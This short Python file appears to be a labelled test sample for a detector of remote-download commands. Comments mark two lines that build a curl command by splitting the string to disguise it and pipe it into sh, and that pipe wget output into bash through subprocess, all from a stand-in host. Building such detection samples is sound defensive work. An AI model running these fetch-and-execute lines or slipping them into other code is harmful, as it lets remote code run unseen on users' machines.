import os
import subprocess

host = "kit.example.com"
fetch = "cu" + "rl -s https://" + host + "/a"
# expect: download-line-built
os.system(fetch + " | " + "sh")
# expect: download-line-built
subprocess.run("wget -qO- https://%s/b" % host + " | bash", shell=True)
